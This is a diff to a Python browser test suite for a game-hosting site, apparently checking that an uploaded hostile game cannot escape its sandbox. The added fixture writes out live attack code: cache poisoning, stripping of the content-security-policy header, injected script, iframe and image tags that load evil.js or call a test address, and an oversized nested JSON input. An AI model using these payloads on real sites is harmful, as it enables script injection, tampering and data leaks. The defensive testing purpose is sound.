@@ -64,6 +64,9 @@ def test_an_own_game_is_played_from_a_link(
     own = FirstGame(tmp_path / "night-market", rules=True)
     build_site(tmp_path / "out", [own.place], runtime)
     visitor = visit(tmp_path / "out")
+    visitor.find(".offer .print").first.click()
+    visitor.find("[data-print-do=make]").wait_for()  # What draws sheets is loaded at its first use.
+    visitor.frame.evaluate("history.back()")
     visitor.begin("Night Market")
     for number in range(KILLS):
         visitor.take_up()
@@ -93,7 +96,7 @@ def test_an_own_game_is_played_from_a_link(
     taken = open_session(load(tmp_path / "copy.json", game=str(own.folder)).name)
     assert (taken.seq + 1, taken.play.over) == (moves, True)
     own_host = visitor.frame.evaluate("location.origin")
-    assert {each for each in visitor.asked if not each.startswith((f"{own_host}/", f"blob:{own_host}"))} == set()
+    assert {each for each in visitor.asked if not each.startswith((f"{own_host}/", "blob:", "about:"))} == set()
     assert visitor.said == []
 
 
@@ -130,6 +133,38 @@ with contextlib.suppress(BaseException):
     urllib.request.urlopen(ADDRESS + "/opened", timeout=2)
 with contextlib.suppress(BaseException):
     socket.create_connection((ADDRESS.split("/")[2].split(":")[0], int(ADDRESS.split(":")[2])), 2)
+
+import js
+from companion.site.bridge import Bridge
+REACHED = []
+async def reach():
+    for name in await js.caches.keys():
+        await (await js.caches.open(name)).put("/night-market/index.html", js.Response.new("owned"))
+    REACHED.append("caches")
+for name, act in {{
+    "databases": lambda: js.indexedDB.open("neighbour"), "calls": lambda: js.RTCPeerConnection.new(),
+    "frames": lambda: js.localStorage.getItem("neighbour"),
+}}.items():
+    with contextlib.suppress(BaseException):
+        act()
+        REACHED.append(name)
+import asyncio
+with contextlib.suppress(BaseException):
+    asyncio.ensure_future(reach())
+TAGS = ("<link rel=preconnect href=" + ADDRESS + "><script src=evil.js></script><script src=/static/evil.js></script>"
+    "<script src=book.js></script><script>open('" + ADDRESS + "')</script><img src=" + ADDRESS + ">"
+    "<style>@import url(" + ADDRESS + ");</style><iframe src=" + ADDRESS + "></iframe>")
+SCRIPT = "document.title = 'owned'; open('" + ADDRESS + "'); fetch('" + ADDRESS + "')"
+honest_ask = Bridge.ask
+async def ask(self, method, path, headers, body):
+    if path.endswith(("evil.js", "book.js")):
+        return 200, [("content-type", "text/javascript")], SCRIPT.encode()
+    status, answered, content = await honest_ask(self, method, path, headers, body)
+    tags = TAGS + "<meta name=reached content='" + " ".join(REACHED) + "'>"
+    answered = [each for each in answered if each[0] != "content-security-policy"]
+    answered.append(("link", "<" + ADDRESS + ">; rel=preconnect"))
+    return status, answered, content.replace(b"<head>", b"<head>" + tags.encode())
+Bridge.ask = ask
 """
 
 
@@ -150,10 +185,19 @@ def test_a_hostile_game_reaches_nobody_and_games_outlive_new_rules(
         build_site(tmp_path / "out", [own.place], runtime)
         visitor = visit(tmp_path / "out")
         visitor.find("[data-copy]").set_input_files({"name": "cat.json", "mimeType": "", "buffer": b"{}"})
-        expect(visitor.find("[role=status]")).to_contain_text("isn't a save")
+        expect(visitor.find("[role=status]")).to_contain_text("is no copy of a game")
+        deep = b'{"format": "salvage-session", "meta": ' + b"[" * 200_000
+        visitor.find("[data-copy]").set_input_files({"name": "deep.json", "mimeType": "", "buffer": deep})
+        visitor.page.locator("#about", has_text="begins again").wait_for()  # As no Python reads it.
+        visitor.page.wait_for_selector("#start", state="hidden")
         visitor.find("[data-copy]").set_input_files(tmp_path / "copy.json")
         visitor.find("#host").wait_for()
         expect(visitor.find("#heading")).to_contain_text("Turn 4")
+        assert visitor.frame.locator("meta[name=reached]").get_attribute("content") == ""
+        assert "owned" not in [visitor.page.title(), visitor.frame.title()]
+        visitor.page.reload()
+        visitor.find("#heading", has_text="Turn 4").wait_for()
+        assert heard == []
         other.shutdown()
     own.change("components/game.yaml", "hand: {value: 2", "hand: {value: 3")
     build_site(tmp_path / "out", [own.place], runtime)
